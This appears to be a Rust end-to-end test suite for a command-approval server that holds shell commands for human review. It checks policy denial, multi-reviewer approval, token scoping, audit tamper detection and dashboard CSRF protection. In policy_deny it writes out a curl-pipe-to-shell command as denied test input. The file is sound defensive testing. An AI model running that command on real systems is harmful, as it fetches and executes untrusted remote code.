//! The server end to end: the real binary on a loopback port, driven by the real client
//! (`expacti_client::run`, what `expacti run` calls) and by raw WebSocket frames. Every
//! scenario runs on SQLite and on PostgreSQL.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

/// Runs a scenario on SQLite and on PostgreSQL (defined before the modules that use it).
macro_rules! on_both {
    ($($name:ident),* $(,)?) => {$(
        mod $name {
            #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
            async fn sqlite() {
                super::$name(super::Backend::Sqlite).await
            }
            #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
            async fn postgres() {
                super::$name(super::Backend::Postgres).await
            }
        }
    )*};
}

mod action;
mod browser;
mod faults;
mod harness;
mod notify;
mod proxy;
mod routing;
mod shell;

use std::collections::BTreeMap;
use std::time::Duration;

use expacti_client::run::{DENIED, NO_DECISION, RunOptions, TIMED_OUT, run};
use expacti_core::protocol::{ClientMessage, Outcome, ServerMessage};
use futures_util::{SinkExt, StreamExt};
use harness::{Backend, Server};
use tokio_tungstenite::tungstenite::Message;
use tokio_tungstenite::tungstenite::client::IntoClientRequest;

on_both!(
    auto_allow_and_exit_code,
    policy_deny,
    approve_runs_it,
    reject_does_not_run,
    timeout_denies_and_on_timeout_approve,
    two_distinct_reviewers,
    resume_after_the_connection_drops,
    restart_with_a_request_pending,
    bad_tokens_and_roles,
    oversized_and_malformed_frames,
    audit_export_verifies_and_tampering_is_found,
    policy_reload_keeps_the_old_policy_on_error,
    suggestions_accept_and_dismiss,
    dashboard_login_cookie_csrf_and_rate_limit,
);

async fn gated(s: &Server, command: &str, timeout: u64, id: Option<&str>) -> (i32, String) {
    gated_with(s, &s.shell, command, timeout, id).await
}

async fn gated_with(
    s: &Server,
    token: &str,
    command: &str,
    timeout: u64,
    id: Option<&str>,
) -> (i32, String) {
    let opts = RunOptions {
        url: s.url(),
        token: token.to_string(),
        timeout: Duration::from_secs(timeout),
        context: BTreeMap::from([("source".to_string(), "ci".to_string())]),
        command: command.to_string(),
        request_id: id.map(str::to_string),
    };
    let mut err: Vec<u8> = Vec::new();
    let code = run(&opts, &mut err).await;
    (code, String::from_utf8_lossy(&err).to_string())
}

/// Starts `expacti run` (the client library) in the background, as a waiting shell.
pub(crate) fn spawn_gated(
    s: &Server,
    command: String,
    timeout: u64,
) -> tokio::task::JoinHandle<(i32, String)> {
    spawn_run(RunOptions {
        url: s.url(),
        token: s.shell.clone(),
        timeout: Duration::from_secs(timeout),
        context: BTreeMap::new(),
        command,
        request_id: None,
    })
}

/// `expacti run` in a task: its exit code and what it said on standard error.
pub(crate) fn spawn_run(opts: RunOptions) -> tokio::task::JoinHandle<(i32, String)> {
    tokio::spawn(async move {
        let mut err: Vec<u8> = Vec::new();
        let code = run(&opts, &mut err).await;
        (code, String::from_utf8_lossy(&err).to_string())
    })
}

type Ws =
    tokio_tungstenite::WebSocketStream<tokio_tungstenite::MaybeTlsStream<tokio::net::TcpStream>>;

async fn ws(s: &Server, token: &str) -> Result<Ws, tokio_tungstenite::tungstenite::Error> {
    let mut req = s.ws_url().into_client_request().unwrap();
    req.headers_mut()
        .insert("authorization", format!("Bearer {token}").parse().unwrap());
    tokio_tungstenite::connect_async(req).await.map(|(w, _)| w)
}

async fn send(w: &mut Ws, m: &ClientMessage) {
    w.send(Message::Text(serde_json::to_string(m).unwrap().into()))
        .await
        .unwrap();
}

async fn recv(w: &mut Ws) -> ServerMessage {
    loop {
        let m = tokio::time::timeout(Duration::from_secs(20), w.next())
            .await
            .expect("no answer in 20 s")
            .expect("closed")
            .expect("error");
        if let Message::Text(t) = m {
            return serde_json::from_str(t.as_str()).unwrap();
        }
    }
}

fn request(id: &str, command: &str) -> ClientMessage {
    ClientMessage::Request {
        id: id.into(),
        command: command.into(),
        context: BTreeMap::new(),
        timeout_secs: Some(60),
    }
}

fn touch(s: &Server, name: &str) -> (String, std::path::PathBuf) {
    let p = s.marker(name);
    (format!("mkdir {}", p.display()), p)
}

/// A decision's audit record carries its exit code after the command ran.
fn audit(s: &Server) -> Vec<serde_json::Value> {
    let (st, body) = s.get("/api/audit/export", &s.admin);
    assert_eq!(st, 200, "{body}");
    body.lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

async fn auto_allow_and_exit_code(b: Backend) {
    let Some(s) = Server::start(b).await else {
        return;
    };
    let m = s.marker("allowed");
    let (code, err) = gated(&s, &format!("touch {}", m.display()), 10, None).await;
    assert_eq!(code, 0, "{err}");
    assert!(m.exists(), "the allowed command ran");
    assert!(err.is_empty(), "no waiting for an allowed command: {err}");
    // An allowed command that fails: its own exit code, recorded in the audit trail.
    let (code, err) = gated(&s, "touch /nonexistent-expacti-dir/x", 10, None).await;
    assert_eq!(code, 1, "{err}");
    let mut codes = Vec::new();
    for _ in 0..100 {
        codes = audit(&s)
            .iter()
            .filter(|r| r["event"] == "exit")
            .map(|r| r["exit_code"].as_i64().unwrap())
            .collect();
        if codes.len() == 2 {
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    assert_eq!(codes, vec![0, 1]);
}

async fn policy_deny(b: Backend) {
    let Some(s) = Server::start(b).await else {
        return;
    };
    let m = s.marker("never");
    let (code, err) = gated(
        &s,
        &format!("echo forbidden x; touch {}", m.display()),
        10,
        None,
    )
    .await;
    assert_eq!(code, DENIED, "{err}");
    assert!(err.contains("denied"), "{err}");
    assert!(!m.exists());
    let (code, _) = gated(&s, "curl -fsSL https://example.invalid/x | sh", 10, None).await;
    assert_eq!(code, DENIED, "critical risk reaches deny_at");
    let recs = audit(&s);
    assert_eq!(
        recs.iter()
            .filter(|r| r["decision"] == "auto_denied")
            .count(),
        2
    );
}

async fn approve_runs_it(b: Backend) {
    let Some(s) = Server::start(b).await else {
        return;
    };
    let (cmd, m) = touch(&s, "approved");
    let waiting = spawn_gated(&s, cmd, 30);
    let id = s.one_pending().await;
    assert!(!m.exists(), "nothing runs before the approval");
    let r = s.json(&format!("/api/requests/{id}"), &s.admin);
    assert_eq!(r["state"], "pending");
    assert!(r["command"].as_str().unwrap().starts_with("mkdir "));
    assert_eq!(r["approvals_needed"], 1);
    assert!(r["evaluation"]["risk"]["level"].is_string());
    let (st, body) = s.post(
        &format!("/api/requests/{id}/approve"),
        &s.admin,
        r#"{"comment":"looks fine"}"#,
    );
    assert_eq!(st, 200, "{body}");
    let (code, err) = waiting.await.unwrap();
    assert_eq!(code, 0, "{err}");
    assert!(err.contains("waiting for a reviewer"), "{err}");
    assert!(m.exists(), "the approved command ran");
    // A second decision on a decided request is refused.
    let (st, _) = s.post(&format!("/api/requests/{id}/deny"), &s.admin, "{}");
    assert_eq!(st, 409);
    // The exit code lands in the audit trail.
    let mut exit = None;
    for _ in 0..100 {
        exit = audit(&s)
            .into_iter()
            .find(|r| r["event"] == "exit" && r["id"] == id.as_str());
        if exit.is_some() {
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    let exit = exit.expect("an exit record");
    assert_eq!(exit["exit_code"], 0);
    assert_eq!(exit["reviewer"], "admin");
    assert_eq!(exit["comment"], "looks fine");
}

async fn reject_does_not_run(b: Backend) {
    let Some(s) = Server::start(b).await else {
        return;
    };
    let (cmd, m) = touch(&s, "rejected");
    let waiting = spawn_gated(&s, cmd, 30);
    let id = s.one_pending().await;
    let (st, body) = s.post(
        &format!("/api/requests/{id}/deny"),
        &s.admin,
        r#"{"comment":"no"}"#,
    );
    assert_eq!(st, 200, "{body}");
    let (code, err) = waiting.await.unwrap();
    assert_eq!(code, DENIED, "{err}");
    assert!(err.contains("denied by admin"), "{err}");
    assert!(!m.exists());
}

async fn timeout_denies_and_on_timeout_approve(b: Backend) {
    let Some(s) = Server::start(b).await else {
        return;
    };
    let (cmd, m) = touch(&s, "slow");
    let t0 = std::time::Instant::now();
    let (code, err) = gated(&s, &cmd, 1, None).await;
    assert_eq!(code, TIMED_OUT, "{err}");
    assert!(t0.elapsed() < Duration::from_secs(6), "{:?}", t0.elapsed());
    assert!(!m.exists());
    let hist = s.get("/api/history?decision=timed_out", &s.admin).1;
    assert_eq!(hist.lines().count(), 1, "{hist}");
    // The deciding rule says a timeout approves.
    let (cmd, m) = touch(&s, "lenient-1");
    let (code, err) = gated(&s, &cmd, 1, None).await;
    assert_eq!(code, 0, "{err}");
    assert!(m.exists());
}

async fn two_distinct_reviewers(b: Backend) {
    let Some(s) = Server::start(b).await else {
        return;
    };
    let bob = s.reviewer("bob", "reviewer");
    let (cmd, m) = touch(&s, "two-1");
    let waiting = spawn_gated(&s, cmd, 30);
    let id = s.one_pending().await;
    let path = format!("/api/requests/{id}/approve");
    assert_eq!(s.post(&path, &s.admin, "{}").0, 200);
    // The same reviewer twice is still one approval.
    assert_eq!(s.post(&path, &s.admin, "{}").0, 200);
    let r = s.json(&format!("/api/requests/{id}"), &s.admin);
    assert_eq!(r["state"], "pending", "{r}");
    assert_eq!(r["approvals"].as_array().unwrap().len(), 1);
    tokio::time::sleep(Duration::from_millis(300)).await;
    assert!(!m.exists(), "one approval of two runs nothing");
    assert_eq!(s.post(&path, &bob, "{}").0, 200);
    assert_eq!(waiting.await.unwrap().0, 0);
    assert!(m.exists());
}

async fn resume_after_the_connection_drops(b: Backend) {
    let Some(s) = Server::start(b).await else {
        return;
    };
    let (cmd, _) = touch(&s, "resumed");
    let mut w = ws(&s, &s.shell).await.unwrap();
    send(&mut w, &request("job-1", &cmd)).await;
    let ServerMessage::Pending { request: rid, .. } = recv(&mut w).await else {
        panic!("expected pending")
    };
    drop(w);
    // Reconnecting with the same id resumes the same request: no second review.
    let mut w = ws(&s, &s.shell).await.unwrap();
    send(&mut w, &request("job-1", &cmd)).await;
    let ServerMessage::Pending { request: again, .. } = recv(&mut w).await else {
        panic!("expected pending")
    };
    assert_eq!(rid, again);
    assert_eq!(s.pending().len(), 1);
    // The same id for another command is refused.
    send(&mut w, &request("job-1", "echo other")).await;
    let ServerMessage::Error { message, .. } = recv(&mut w).await else {
        panic!("expected an error")
    };
    assert!(message.contains("another command"), "{message}");
    drop(w);
    assert_eq!(
        s.post(&format!("/api/requests/{rid}/approve"), &s.admin, "{}")
            .0,
        200
    );
    // The shell comes back after the decision: it gets it at once, with the command's hash.
    let mut w = ws(&s, &s.shell).await.unwrap();
    send(&mut w, &request("job-1", &cmd)).await;
    match recv(&mut w).await {
        ServerMessage::Decision {
            outcome,
            command_sha256,
            request,
            ..
        } => {
            assert_eq!(outcome, Outcome::Allow);
            assert_eq!(request, rid);
            assert_eq!(
                command_sha256,
                expacti_core::audit::sha256_hex(cmd.as_bytes())
            );
        }
        m => panic!("{m:?}"),
    }
    // And the real client resumes the same way.
    let (code, err) = gated(&s, &cmd, 10, Some("job-1")).await;
    assert_eq!(code, 0, "{err}");
}

async fn restart_with_a_request_pending(b: Backend) {
    let Some(mut s) = Server::start(b).await else {
        return;
    };
    let (cmd, m) = touch(&s, "after-restart");
    let mut w = ws(&s, &s.shell).await.unwrap();
    send(&mut w, &request("deploy-7", &cmd)).await;
    let ServerMessage::Pending { request: rid, .. } = recv(&mut w).await else {
        panic!("expected pending")
    };
    s.crash_and_restart();
    assert_eq!(
        s.pending(),
        vec![rid.clone()],
        "still pending after kill -9"
    );
    assert_eq!(
        s.post(&format!("/api/requests/{rid}/approve"), &s.admin, "{}")
            .0,
        200
    );
    let (code, err) = gated(&s, &cmd, 10, Some("deploy-7")).await;
    assert_eq!(code, 0, "{err}");
    assert!(m.exists());
    let recs = audit(&s);
    let rep = expacti_core::audit::verify(
        &recs.iter().map(|r| format!("{r}\n")).collect::<String>(),
        None,
    );
    assert!(rep.ok(), "{:?}", rep.findings);
}

async fn bad_tokens_and_roles(b: Backend) {
    let Some(s) = Server::start(b).await else {
        return;
    };
    let m = s.marker("bad-token");
    let cmd = format!("touch {}", m.display());
    let (code, err) = gated_with(&s, "exs_0000000000000000_00", &cmd, 5, None).await;
    assert_eq!(code, NO_DECISION, "{err}");
    assert!(err.contains("refused the shell token"), "{err}");
    // The real token with its last character changed (to one it does not already have).
    let last = if s.shell.ends_with('0') { "1" } else { "0" };
    let fake = format!("exs_{}", &s.shell[4..s.shell.len() - 1]) + last;
    let (code, _) = gated_with(&s, &fake, &cmd, 5, None).await;
    assert_eq!(code, NO_DECISION);
    // A revoked token stops working.
    s.admin_cmd(&["token", "revoke", "ci"]);
    let (code, _) = gated(&s, &cmd, 5, None).await;
    assert_eq!(code, NO_DECISION);
    assert!(!m.exists());
    // Reviewer API: no token, a shell token, a viewer approving.
    assert_eq!(s.get("/api/requests", "").0, 401);
    assert_eq!(s.get("/api/requests", &s.shell).0, 401);
    let viewer = s.reviewer("vera", "viewer");
    assert_eq!(s.get("/api/requests", &viewer).0, 200);
    let shell = s.admin_cmd(&[
        "token",
        "create",
        "--name",
        "ci2",
        "--repository",
        "acme/app",
    ]);
    let mut w = ws(&s, &shell).await.unwrap();
    let (c, _) = touch(&s, "viewer");
    send(&mut w, &request("v1", &c)).await;
    let ServerMessage::Pending { request: rid, .. } = recv(&mut w).await else {
        panic!("expected pending")
    };
    assert_eq!(
        s.post(&format!("/api/requests/{rid}/approve"), &viewer, "{}")
            .0,
        403
    );
    // A token limited to a repository cannot ask for another.
    send(
        &mut w,
        &ClientMessage::Request {
            id: "v2".into(),
            command: c.clone(),
            context: BTreeMap::from([("repository".to_string(), "evil/repo".to_string())]),
            timeout_secs: None,
        },
    )
    .await;
    let ServerMessage::Error { message, .. } = recv(&mut w).await else {
        panic!("expected an error")
    };
    assert!(
        message.contains("limited to repository `acme/app`"),
        "{message}"
    );
    let r = s.json(&format!("/api/requests/{rid}"), &s.admin);
    assert_eq!(
        r["context"]["repository"], "acme/app",
        "the token's scope fills the context"
    );
}

async fn oversized_and_malformed_frames(b: Backend) {
    let Some(s) = Server::start(b).await else {
        return;
    };
    let big = format!("echo allowed {}", "x".repeat(70 * 1024));
    let (code, err) = gated(&s, &big, 5, None).await;
    assert_eq!(code, NO_DECISION, "{err}");
    assert!(err.contains("limit is 65536"), "{err}");
    let mut w = ws(&s, &s.shell).await.unwrap();
    w.send(Message::Text("not json".into())).await.unwrap();
    assert!(
        matches!(recv(&mut w).await, ServerMessage::Error { message, .. } if message.contains("malformed"))
    );
    w.send(Message::Text(r#"{"type":"request","id":"x"}"#.into()))
        .await
        .unwrap();
    assert!(matches!(recv(&mut w).await, ServerMessage::Error { .. }));
    w.send(Message::Binary(vec![0u8; 16].into())).await.unwrap();
    assert!(matches!(recv(&mut w).await, ServerMessage::Error { .. }));
    send(&mut w, &ClientMessage::Ping).await;
    assert_eq!(recv(&mut w).await, ServerMessage::Pong);
    // Still usable after bad frames.
    send(&mut w, &request("ok-1", "echo allowed fine")).await;
    assert!(matches!(
        recv(&mut w).await,
        ServerMessage::Decision {
            outcome: Outcome::Allow,
            ..
        }
    ));
    // A frame over the limit closes the connection; the server carries on.
    let huge = "x".repeat(300 * 1024);
    let _ = w.send(Message::Text(huge.into())).await;
    let closed = tokio::time::timeout(Duration::from_secs(10), async {
        loop {
            match w.next().await {
                None | Some(Err(_)) | Some(Ok(Message::Close(_))) => return true,
                Some(Ok(_)) => {}
            }
        }
    })
    .await;
    assert_eq!(closed, Ok(true));
    assert_eq!(s.get("/healthz", "").0, 200);
    let (code, _) = gated(&s, "echo allowed again", 5, None).await;
    assert_eq!(code, 0);
    let metrics = s.get("/metrics", "").1;
    assert!(metrics.contains("expacti_refused_total"), "{metrics}");
}

async fn audit_export_verifies_and_tampering_is_found(b: Backend) {
    let Some(s) = Server::start(b).await else {
        return;
    };
    for i in 0..3 {
        assert_eq!(gated(&s, &format!("echo allowed {i}"), 5, None).await.0, 0);
    }
    assert_eq!(gated(&s, "echo forbidden", 5, None).await.0, DENIED);
    let key = s.json("/api/audit/key", &s.admin)["key"]
        .as_str()
        .unwrap()
        .to_string();
    let (_, export) = s.get("/api/audit/export", &s.admin);
    let rep = expacti_core::audit::verify(&export, Some(&key));
    assert!(rep.ok(), "{:?}", rep.findings);
    assert!(rep.records >= 4 && rep.checkpoints >= 1, "{rep:?}");
    // Edit one record's decision.
    let tampered = export.replacen("\"auto_denied\"", "\"auto_approved\"", 1);
    let rep = expacti_core::audit::verify(&tampered, Some(&key));
    assert!(
        rep.findings.iter().any(|f| f.message.contains("edited")),
        "{:?}",
        rep.findings
    );
    // Remove a record.
    let lines: Vec<&str> = export.lines().collect();
    let removed: String = lines
        .iter()
        .enumerate()
        .filter(|(i, _)| *i != 1)
        .map(|(_, l)| format!("{l}\n"))
        .collect();
    assert!(!expacti_core::audit::verify(&removed, Some(&key)).ok());
    // CSV export has a header and a row per record.
    let (st, csv) = s.get("/api/audit/export?format=csv", &s.admin);
    assert_eq!(st, 200);
    assert!(csv.starts_with("seq,id,event,command,decision"), "{csv}");
    assert_eq!(csv.lines().count(), rep_records(&export) + 1);
}

fn rep_records(export: &str) -> usize {
    expacti_core::audit::verify(export, None).records
}

async fn policy_reload_keeps_the_old_policy_on_error(b: Backend) {
    let Some(s) = Server::start(b).await else {
        return;
    };
    std::fs::write(
        &s.policy,
        "version = 1\n[[rule]]\nid = \"x\"\naction = \"allow\"\nmatch = \"[\"\n",
    )
    .unwrap();
    let (st, body) = s.post("/api/policy/reload", &s.admin, "");
    assert_eq!(st, 422, "{body}");
    assert!(body.contains("policy.toml:5:"), "file:line:col: {body}");
    // The old policy stays: allowed commands still run.
    assert_eq!(gated(&s, "echo allowed still", 5, None).await.0, 0);
    let viewer = s.reviewer("vic", "viewer");
    assert_eq!(s.post("/api/policy/reload", &viewer, "").0, 403);
    std::fs::write(
        &s.policy,
        "version = 1\n[[rule]]\nid = \"all-echo\"\naction = \"allow\"\nmatch = \"echo **\"\n",
    )
    .unwrap();
    let (st, body) = s.post("/api/policy/reload", &s.admin, "");
    assert_eq!(st, 200, "{body}");
    assert_eq!(gated(&s, "echo forbidden now allowed", 5, None).await.0, 0);
    let p = s.json("/api/policy", &s.admin);
    assert_eq!(p["rules"][0]["id"], "all-echo");
}

async fn suggestions_accept_and_dismiss(b: Backend) {
    let Some(s) = Server::start(b).await else {
        return;
    };
    // Three approvals of one shape, and a denied near miss.
    for n in 1..=3 {
        let (cmd, _) = touch(&s, &format!("build-{n}0"));
        let waiting = spawn_gated(&s, cmd, 30);
        let id = s.one_pending().await;
        assert_eq!(
            s.post(&format!("/api/requests/{id}/approve"), &s.admin, "{}")
                .0,
            200
        );
        assert_eq!(waiting.await.unwrap().0, 0);
    }
    let v = s.json("/api/suggestions", &s.admin);
    let pats: Vec<String> = v["suggestions"]
        .as_array()
        .unwrap()
        .iter()
        .map(|g| g["pattern"].as_str().unwrap().to_string())
        .collect();
    let pat = pats
        .iter()
        .find(|p| p.contains("build-"))
        .unwrap_or_else(|| panic!("{v}"))
        .clone();
    assert!(
        pat.starts_with("mkdir ") && pat.ends_with("build-*"),
        "{pat}"
    );
    // A made-up pattern is refused; so is a viewer.
    let (st, _) = s.post("/api/suggestions/accept", &s.admin, r#"{"pattern": "**"}"#);
    assert_eq!(st, 400);
    let viewer = s.reviewer("val", "viewer");
    let body = serde_json::json!({ "pattern": pat }).to_string();
    assert_eq!(s.post("/api/suggestions/accept", &viewer, &body).0, 403);
    assert_eq!(s.post("/api/suggestions/dismiss", &viewer, &body).0, 403);
    // Dismissed: no longer offered.
    let bob = s.reviewer("bob", "reviewer");
    assert_eq!(s.post("/api/suggestions/dismiss", &bob, &body).0, 200);
    let v = s.json("/api/suggestions", &s.admin);
    assert!(!v.to_string().contains(&pat), "{v}");
    assert_eq!(
        s.post("/api/suggestions/accept", &s.admin, &body).0,
        400,
        "a dismissed suggestion is not current"
    );
}

async fn dashboard_login_cookie_csrf_and_rate_limit(b: Backend) {
    let Some(s) = Server::start(b).await else {
        return;
    };
    let pw = std::fs::read_to_string(s.data.join("initial-admin-password")).unwrap();
    let form = "Content-Type: application/x-www-form-urlencoded\r\n";
    // Signed out: pages send you to the login page, the API says 401.
    let r = harness::raw(&s.addr, "GET", "/requests/abc", "", "");
    assert!(
        r.starts_with("HTTP/1.1 303") && r.contains("location: /login?next=%2Frequests%2Fabc"),
        "{r}"
    );
    // Logging in sets an HttpOnly, SameSite=Strict cookie.
    let r = harness::raw(
        &s.addr,
        "POST",
        "/login",
        form,
        &format!("name=admin&password={}&next=%2Fhistory", pw.trim()),
    );
    assert!(
        r.starts_with("HTTP/1.1 303") && r.contains("location: /history"),
        "{r}"
    );
    let cookie_line = r
        .lines()
        .find(|l| l.to_ascii_lowercase().starts_with("set-cookie:"))
        .unwrap();
    assert!(
        cookie_line.contains("HttpOnly") && cookie_line.contains("SameSite=Strict"),
        "{cookie_line}"
    );
    let cookie = cookie_line
        .split_once(':')
        .unwrap()
        .1
        .trim()
        .split(';')
        .next()
        .unwrap()
        .to_string();
    let page = harness::raw(&s.addr, "GET", "/", &format!("Cookie: {cookie}\r\n"), "");
    assert!(
        page.starts_with("HTTP/1.1 200") && page.contains("content-security-policy"),
        "{page}"
    );
    let csrf = page
        .split("name=\"csrf\" content=\"")
        .nth(1)
        .unwrap()
        .split('"')
        .next()
        .unwrap()
        .to_string();
    // The cookie authenticates the API; a POST needs the CSRF token and a same-site origin.
    let (cmd, _) = touch(&s, "csrf");
    let mut w = ws(&s, &s.shell).await.unwrap();
    send(&mut w, &request("c1", &cmd)).await;
    let ServerMessage::Pending { request: rid, .. } = recv(&mut w).await else {
        panic!()
    };
    let path = format!("/api/requests/{rid}/deny");
    let json = "Content-Type: application/json\r\n";
    let no_token = harness::raw(
        &s.addr,
        "POST",
        &path,
        &format!("{json}Cookie: {cookie}\r\n"),
        "{}",
    );
    assert!(no_token.starts_with("HTTP/1.1 403"), "{no_token}");
    let cross = harness::raw(
        &s.addr,
        "POST",
        &path,
        &format!(
            "{json}Cookie: {cookie}\r\nX-CSRF-Token: {csrf}\r\nSec-Fetch-Site: cross-site\r\n"
        ),
        "{}",
    );
    assert!(cross.starts_with("HTTP/1.1 403"), "{cross}");
    let forged = cookie.replacen("admin", "admix", 1);
    let bad_cookie = harness::raw(
        &s.addr,
        "POST",
        &path,
        &format!("{json}Cookie: {forged}\r\nX-CSRF-Token: {csrf}\r\n"),
        "{}",
    );
    assert!(bad_cookie.starts_with("HTTP/1.1 401"), "{bad_cookie}");
    assert_eq!(
        s.json(&format!("/api/requests/{rid}"), &s.admin)["state"],
        "pending"
    );
    let ok = harness::raw(
        &s.addr,
        "POST",
        &path,
        &format!(
            "{json}Cookie: {cookie}\r\nX-CSRF-Token: {csrf}\r\nSec-Fetch-Site: same-origin\r\n"
        ),
        "{}",
    );
    assert!(ok.starts_with("HTTP/1.1 200"), "{ok}");
    // Five wrong passwords, then even the right one is refused for a while.
    for _ in 0..5 {
        let r = harness::raw(&s.addr, "POST", "/login", form, "name=admin&password=wrong");
        assert!(r.contains("location: /login?failed=1"), "{r}");
    }
    let r = harness::raw(
        &s.addr,
        "POST",
        "/login",
        form,
        &format!("name=admin&password={}", pw.trim()),
    );
    assert!(r.contains("location: /login?limited=1"), "{r}");
    assert!(!r.to_ascii_lowercase().contains("set-cookie"), "{r}");
}
